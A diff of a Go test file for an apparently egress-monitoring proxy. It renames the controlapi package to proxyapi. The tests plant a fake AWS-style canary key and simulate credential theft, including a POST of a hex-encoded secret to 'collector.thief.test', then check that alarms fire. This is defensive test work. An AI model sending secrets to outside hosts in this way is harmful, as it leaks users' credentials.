@@ -23,23 +23,23 @@ import (
 	"github.com/klauspost/compress/zstd"
 
 	"github.com/codeforge-mcp/codeforge/internal/testkit"
-	"github.com/codeforge-mcp/codeforge/proxy/controlapi"
 	"github.com/codeforge-mcp/codeforge/proxy/internal/policy"
 	"github.com/codeforge-mcp/codeforge/proxy/internal/upstream"
 	"github.com/codeforge-mcp/codeforge/proxy/ledger"
+	"github.com/codeforge-mcp/codeforge/proxy/proxyapi"
 )
 
 // canary is the run's. It looks like the secret key of AWS.
 const canary = "q7Zk3mVx9TpLw2RyBn8HdJ4sKfGc6WuEo1XaYv5M"
 
 // beginWith registers a run with the canary.
-func (r *rig) beginWith(generation uint64, canaries ...string) (end func() controlapi.Receipt) {
+func (r *rig) beginWith(generation uint64, canaries ...string) (end func() proxyapi.Receipt) {
 	r.t.Helper()
-	_, err := r.book.BeginLease(0, controlapi.Registration{
+	_, err := r.book.BeginLease(0, proxyapi.Registration{
 		Generation: generation, Run: "run-1", Deadline: time.Now().Add(time.Minute), Canaries: canaries,
 	})
 	check(r.t, err)
-	return func() controlapi.Receipt {
+	return func() proxyapi.Receipt {
 		r.t.Helper()
 		rec, err := r.book.EndLease(0, generation)
 		check(r.t, err)
@@ -207,8 +207,8 @@ func TestCanary(t *testing.T) {
 					}
 					t.Run(name, func(t *testing.T) {
 						end := r.beginWith(uint64(generation.Add(1)), canary)
-						r.steal(t, s, h2, host, controlapi.AlarmCanary, &up)
-						if rec := end(); rec.Alarm == nil || rec.Alarm.Kind != controlapi.AlarmCanary {
+						r.steal(t, s, h2, host, proxyapi.AlarmCanary, &up)
+						if rec := end(); rec.Alarm == nil || rec.Alarm.Kind != proxyapi.AlarmCanary {
 							t.Errorf("receipt %+v", rec.Alarm)
 						}
 						if got := records.Load(); got != generation.Load() {
@@ -225,7 +225,7 @@ func TestCanary(t *testing.T) {
 func (r *rig) steal(t *testing.T, s theft, h2 bool, host, kind string, up *seen) {
 	t.Helper()
 	before := up.count()
-	events, stop := r.journal.Subscribe(controlapi.AlarmEvents)
+	events, stop := r.journal.Subscribe(proxyapi.AlarmEvents)
 	defer stop()
 	client := r.client(h2)
 	if resp, err := client.Do(s.request(t)); err == nil {
@@ -268,7 +268,7 @@ func TestCredentialAlarm(t *testing.T) {
 	for i, host := range []string{demoHost, "collector.thief.test"} {
 		end := r.beginWith(uint64(i + 1))
 		r.steal(t, theft{method: "POST", url: "https://" + host + "/", body: "k=" + hex.EncodeToString([]byte(secretValue)), in: "body"},
-			false, host, controlapi.AlarmCredential, &up)
+			false, host, proxyapi.AlarmCredential, &up)
 		if a := end().Alarm; a == nil || a.Name != tokenName {
 			t.Errorf("receipt %+v", a)
 		}
